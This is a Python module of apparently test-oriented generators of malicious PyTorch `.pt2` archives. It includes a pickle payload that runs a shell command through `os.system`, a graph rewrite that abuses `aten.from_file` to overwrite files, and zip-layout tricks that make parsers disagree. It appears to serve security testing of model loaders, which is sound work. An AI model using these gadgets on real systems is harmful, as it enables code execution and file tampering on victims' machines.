"""Generators of hostile ``.pt2`` archives: bad op targets, hidden archives, reader disagreements.

Each starts from a clean ``torch.export.save`` file and changes one thing the way an attacker
would, at the byte level where the trick lives in the zip layout.
"""

from __future__ import annotations

import io
import json
import os
import zipfile
from pathlib import Path
from typing import Callable

import torch
from torch import nn

Change = Callable[[str, bytes], "bytes | None"]


class Payload:
    """Unpickling this runs a shell command that creates ``marker``."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def saved(model: nn.Module, path: Path, size: int = 16) -> Path:
    """``model`` traced on a ``[1, 3, size, size]`` input and saved with ``torch.export.save``."""
    torch.export.save(torch.export.export(model.eval(), (torch.zeros(1, 3, size, size),)), path)
    return path


def rezip(src: Path, dst: Path, change: Change) -> Path:
    """A copy of the archive ``src`` with ``change(name, bytes)`` applied to each member (None drops it)."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_STORED) as zout:
        for info in zin.infolist():
            data = change(info.filename, zin.read(info.filename))
            if data is not None:
                zout.writestr(info.filename, data)
    return dst


def graph_change(fn: Callable[[dict], None]) -> Change:
    """A change that edits the serialized program (``models/model.json``) with ``fn``."""
    def change(name: str, data: bytes) -> bytes:
        if name.endswith("models/model.json"):
            program = json.loads(data)
            fn(program)
            return json.dumps(program).encode()
        return data
    return change


def sample_payload(marker: Path) -> Change:
    """Example inputs that, unpickled with ``weights_only=False``, create ``marker``."""
    def change(name: str, data: bytes) -> bytes:
        if name.endswith("data/sample_inputs/model.pt"):
            buf = io.BytesIO()
            torch.save(((Payload(marker),), {}), buf)
            return buf.getvalue()
        return data
    return change


class WritesAFile(nn.Module):
    """Traces to ``ones -> copy_(payload)``; :func:`file_writer` turns the ``ones`` into ``from_file``."""

    def __init__(self, payload: bytes) -> None:
        super().__init__()
        self.conv = nn.Conv2d(3, 2, 3)
        self.register_buffer("payload", torch.tensor(list(payload), dtype=torch.uint8))

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        f = torch.ones(len(self.payload), dtype=torch.uint8)
        f.copy_(self.payload)
        return self.conv(x).mean((2, 3)) + f[:1].float() * 0


def file_writer(tmp: Path, target: Path, payload: bytes) -> Path:
    """A program made only of aten ops that writes ``payload`` into ``target`` when its graph runs:
    ``aten.from_file(target, shared=True)`` maps the file, ``aten.copy_`` writes into the mapping."""
    def to_from_file(program: dict) -> None:
        for node in program["graph_module"]["graph"]["nodes"]:
            if node["target"] == "torch.ops.aten.ones.default":
                dtype = next(a for a in node["inputs"] if a["name"] == "dtype")
                node["target"] = "torch.ops.aten.from_file.default"
                node["inputs"] = [{"name": "filename", "arg": {"as_string": str(target)}, "kind": 1},
                                  {"name": "shared", "arg": {"as_bool": True}, "kind": 2},
                                  {"name": "size", "arg": {"as_int": len(payload)}, "kind": 2}, dtype]
    clean = saved(WritesAFile(payload), tmp / "writer-clean.pt2", size=8)
    return rezip(clean, tmp / "writer.pt2", graph_change(to_from_file))


def with_target(op: str) -> Change:
    """The first ``relu`` of the graph replaced by ``op`` (a ``torch.ops.aten...`` name)."""
    def swap(program: dict) -> None:
        node = next(n for n in program["graph_module"]["graph"]["nodes"] if "relu" in n["target"])
        node["target"] = op
    return graph_change(swap)


def concatenated(first: Path, second: Path, dst: Path) -> Path:
    """``first``'s bytes followed by ``second``'s: Python's zipfile reads ``second`` (directory found
    from the end), a reader following stored offsets from the start reads ``first``."""
    dst.write_bytes(first.read_bytes() + second.read_bytes())
    return dst


def with_gap(src: Path, dst: Path, after_member: int, junk: bytes = b"\0" * 64) -> Path:
    """``src`` rewritten with ``junk`` between member ``after_member`` and the next (offsets stay right)."""
    with zipfile.ZipFile(src) as zin, open(dst, "wb") as fh:
        with zipfile.ZipFile(fh, "w", zipfile.ZIP_STORED) as zout:
            for i, info in enumerate(zin.infolist()):
                zout.writestr(info.filename, zin.read(info.filename))
                if i == after_member:
                    fh.write(junk)
                    zout.start_dir = fh.tell()  # zipfile writes the next member where its last one ended
    return dst


def with_trailer(src: Path, dst: Path, trailer: bytes) -> Path:
    """``src`` with ``trailer`` appended after its end-of-directory record."""
    dst.write_bytes(src.read_bytes() + trailer)
    return dst


def renamed_in_local_header(src: Path, dst: Path, member_suffix: str, new_suffix: str) -> Path:
    """``src`` with one member's local-header name changed (same length): the directory and the
    local header then name different members, which two zip readers can resolve differently."""
    assert len(member_suffix) == len(new_suffix)
    data = bytearray(src.read_bytes())
    with zipfile.ZipFile(src) as z:
        info = next(i for i in z.infolist() if i.filename.endswith(member_suffix))
    start = info.header_offset + 30
    name = info.filename.encode()
    assert data[start:start + len(name)] == name
    data[start:start + len(name)] = (info.filename[:-len(member_suffix)] + new_suffix).encode()
    dst.write_bytes(bytes(data))
    return dst


def compressed(src: Path, dst: Path) -> Path:
    """``src`` with every member deflated (torch.export.save stores them)."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            zout.writestr(info.filename, zin.read(info.filename))
    return dst


def with_weight_meta(src: Path, dst: Path, record: bytes | None = None, **meta) -> Path:
    """``src`` with the first weight's tensor metadata changed (``sizes``/``storage_offset`` as ints)
    and, with ``record``, its raw bytes replaced."""
    def change(name: str, data: bytes) -> bytes:
        if name.endswith("model_weights_config.json"):
            config = json.loads(data)
            tensor = next(iter(config["config"].values()))["tensor_meta"]
            if "sizes" in meta:
                tensor["sizes"] = [{"as_int": n} for n in meta["sizes"]]
                tensor["strides"] = [{"as_int": 1} for _ in meta["sizes"]]
            if "storage_offset" in meta:
                tensor["storage_offset"] = {"as_int": meta["storage_offset"]}
            return json.dumps(config).encode()
        if record is not None and name.endswith("data/weights/weight_0"):
            return record
        return data
    return rezip(src, dst, change)


def with_bad_crc(src: Path, dst: Path) -> Path:
    """``src`` with one byte of the model JSON flipped in place (its stored CRC no longer matches)."""
    data = bytearray(src.read_bytes())
    with zipfile.ZipFile(src) as z:
        info = next(i for i in z.infolist() if i.filename.endswith("models/model.json"))
    with zipfile.ZipFile(src) as z:
        start = data.index(z.read(info.filename)[:64], info.header_offset)
    data[start + 10] ^= 0x01
    dst.write_bytes(bytes(data))
    return dst
